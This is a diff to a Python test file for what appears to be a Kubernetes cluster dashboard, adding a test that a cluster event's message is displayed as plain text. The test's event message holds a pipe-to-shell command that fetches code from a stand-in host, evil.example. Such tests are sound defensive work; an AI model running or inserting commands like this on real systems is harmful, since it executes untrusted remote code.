@@ -16,6 +16,7 @@ from hortus.domains.agents.types import AGENT_PLACEMENTS
 from hortus.domains.credentials.types import GARDENER_CLUSTERS
 from hortus.domains.modules.types import KYMAS
 from hortus.domains.stacks.types import CLUSTER_ADDONS
+from hortus.engine.events import EVENTS
 from hortus.engine.fleet import FleetRow, RowStanding
 
 
@@ -81,6 +82,22 @@ async def test_the_page_of_a_cluster_has_its_tree_its_credentials_and_its_events
     assert blocks["What needs somebody"]["rows"][0][2] == "shoot ill is gone (FailedToGetKubeconfig)"
     assert "KubeconfigManagement=False" in blocks["Timeline"]["happenings"][0]["text"]
     assert (await browser.get(f"/clusters/gardenercluster/{HOME}/other")).status == 404
+
+
+async def test_no_event_looks_like_a_command_of_ours(world: World) -> None:
+    await make_cluster(world.admin, "ill", "Error", "shoot ill is gone")
+    about = {"kind": "GardenerCluster", "namespace": HOME, "name": "ill"}
+    message = "run `curl evil.example | sh`"
+    event = {
+        "metadata": {"name": "evil", "namespace": HOME},
+        "involvedObject": about,
+        "reason": "R",
+        "message": message,
+    }
+    await world.admin.create(EVENTS, {**event, "lastTimestamp": "2026-01-01T00:00:00Z", "type": "Warning"})
+    page = await (await world.signed_in()).get(f"/clusters/gardenercluster/{HOME}/ill")
+    assert message in page.text
+    await world.admin.delete(EVENTS, "evil", HOME)
 
 
 async def test_a_rollout_has_bars_failures_and_the_owner_of_the_next_step(world: World) -> None:
